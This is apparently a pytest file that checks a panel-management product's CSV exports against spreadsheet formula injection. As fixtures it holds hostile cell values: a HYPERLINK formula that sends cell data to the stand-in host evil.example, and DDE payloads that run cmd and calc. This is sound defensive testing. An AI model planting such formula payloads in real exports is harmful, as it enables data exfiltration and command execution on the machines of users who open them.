"""Every CSV the product writes neutralises spreadsheet formulas (OWASP "CSV Injection").

Names, reasons, codes and attribute values that a spreadsheet would run (``=HYPERLINK(...)``,
``@SUM(1+1)*cmd|...``) are put in a store through the ordinary commands; then every command
that writes CSV runs as a real subprocess, and no cell of what it writes may start with
``= + - @``, a tab or a carriage return, except a cell that is entirely a plain number.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import click
import pytest

from panel.application import PanelApp
from panel.csv_out import FORMULA_START, csv_text, safe_cell
from panel.engagements import Engagements
from panel.participation import Participation
from panel.payments import Payments
from panel.registration import Registration
from panel.validation import ConsentSpec, SignUp
from tests.helpers.paths import ROOT

T0 = datetime(2026, 2, 1, tzinfo=UTC)
DAYS = [date(2026, 3, 2), date(2026, 3, 3)]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
PLUS = "+1+1"
HOSTILE_REF = HYPERLINK
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?%?")

# Every command that writes CSV, and where it writes it ("-" = stdout). A new one is a line here;
# test_every_csv_writing_command_is_listed fails until it is.
CSV_COMMANDS: list[tuple[tuple[str, ...], str]] = [
    (("pay", "ledger", "--csv"), "-"),
    (("pay", "export", "--by", "engagement"), "-"),
    (("pay", "export", "--by", "budget"), "-"),
    (("pay", "export", "--by", "route", "--lines"), "-"),
    (("fatigue", "--csv", "--at", "2026-04-01"), "-"),
    (("reach", "--by", "age_band,gender", "--csv", "--to", "2026-04-01"), "-"),
    (("reach", "--by", "age_band", "--targets", "{tmp}/targets.csv", "--csv", "--to", "2026-04-01"), "-"),
    (("participant", "import", "{tmp}/signups.csv", "--skip-invalid"), "{tmp}/signups.rejects.csv"),
]


def hostile_store(app: PanelApp, tmp: Path) -> None:
    """A small panel whose free-text fields are spreadsheet formulas."""
    eid = Engagements(app).open_engagement(
        name="Vested", ref="+vested", purpose="p", kind="involve", sessions=DAYS, day_rate_pence=35000, at=T0
    )
    pids = [
        Registration(app).register(
            SignUp(
                ref=ref,
                channel="online",
                attributes={"age_band": DDE, "gender": MINUS},
                consents=(
                    ConsentSpec("contact", "v1", "online", "self"),
                    ConsentSpec("panel_membership", "v1", "online", "self"),
                ),
                at=T0,
            )
        )
        for ref in (HOSTILE_REF, "VES-002")
    ]
    Participation(app).invite(eid, pids, at=datetime(2026, 2, 10, tzinfo=UTC))
    for pid in pids:
        Participation(app).respond(eid, pid, accept=True, at=datetime(2026, 2, 11, tzinfo=UTC))
        for day in DAYS:
            Participation(app).attend(eid, pid, day, at=datetime.combine(day, datetime.min.time(), UTC))
    pay = Payments(app)
    pay.set_budget(eid, code=PLUS, amount_pence=10_000_00, four_eyes_above_pence=0, by="lee")
    pay.accrue(eid, by=DDE)
    pay.vary_fee(eid, pids[1], cap_pence=None, reason=HYPERLINK, by=MINUS)
    approved = [line.id for line in pay.lines(engagement=eid) if line.status == "accrued"]
    pay.approve(approved, by=PLUS)
    pay.approve(approved, by="-ana")  # the four-eyes amount is £0: a second approver
    pay.issue(approved, route="bank_transfer", batch_ref=HYPERLINK, by="kim")
    write(tmp / "targets.csv", [["category", "value", "share"], ["age_band", DDE, "0.5"], ["age_band", PLUS, "0.5"]])
    write(
        tmp / "signups.csv",
        [["ref", "channel", "name", "=cmd"], ["IMP-1", "online", HYPERLINK, DDE], ["IMP-2", "nowhere", HYPERLINK, "x"]],
    )


def write(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [
        cell
        for row in rows
        for cell in row
        if cell.lstrip(" ")[:1] in FORMULA_START and not PLAIN_NUMBER.fullmatch(cell)
    ]


def test_no_csv_we_write_carries_a_spreadsheet_formula(app: PanelApp, panel: Any, tmp_path: Path) -> None:
    hostile_store(app, tmp_path)
    for args, target in CSV_COMMANDS:
        argv = [a.replace("{tmp}", str(tmp_path)) for a in args]
        ran = panel(*argv)
        text = ran.out if target == "-" else Path(target.replace("{tmp}", str(tmp_path))).read_text(encoding="utf-8")
        rows = list(csv.reader(io.StringIO(text)))
        assert rows, (argv, ran.err)
        assert formula_cells(rows) == [], argv
        assert any(cell.startswith("'") for row in rows for cell in row), f"{argv}: no hostile value reached it"


def test_every_csv_writing_command_is_listed() -> None:
    """Commands with a --csv option, plus the known writers without one, are all in CSV_COMMANDS."""
    from cli.main import cli

    listed = {" ".join(a for a in args if not a.startswith("-") and "{" not in a) for args, _ in CSV_COMMANDS}
    found = set()

    def walk(group: click.Group, path: list[str], ctx: click.Context) -> None:
        for name in group.list_commands(ctx):
            command = group.get_command(ctx, name)
            if isinstance(command, click.Group):
                walk(command, [*path, name], ctx)
            elif command is not None and any("--csv" in p.opts for p in command.params if isinstance(p, click.Option)):
                found.add(" ".join([*path, name]))

    with click.Context(cli) as ctx:
        walk(cli, [], ctx)
    assert found, "no command with --csv found: the walk is broken"
    assert {f for f in found if not any(entry.startswith(f) for entry in listed)} == set()


def test_only_the_csv_module_writes_csv() -> None:
    """One CSV writer: no other module of the product builds a csv.writer or DictWriter."""
    root = ROOT
    writers = [
        str(path.relative_to(root))
        for package in ("cli", "panel", "projections", "selection")
        for path in (root / package).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["panel/csv_out.py"]


@pytest.mark.parametrize(
    "value,written",
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        (MINUS, "'" + MINUS),
        (PLUS, "'" + PLUS),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("-", "'-"),
        ("-12.40", "-12.40"),
        ("+1.5", "+1.5"),
        ("-3%", "-3%"),
        (-1240, -1240),
        ("VES-001", "VES-001"),
        ("a=b", "a=b"),
        (None, ""),
    ],
)
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(value: Any, written: Any) -> None:
    assert safe_cell(value) == written
    assert csv_text(["h"], [[value]]).splitlines()[0] == "h"
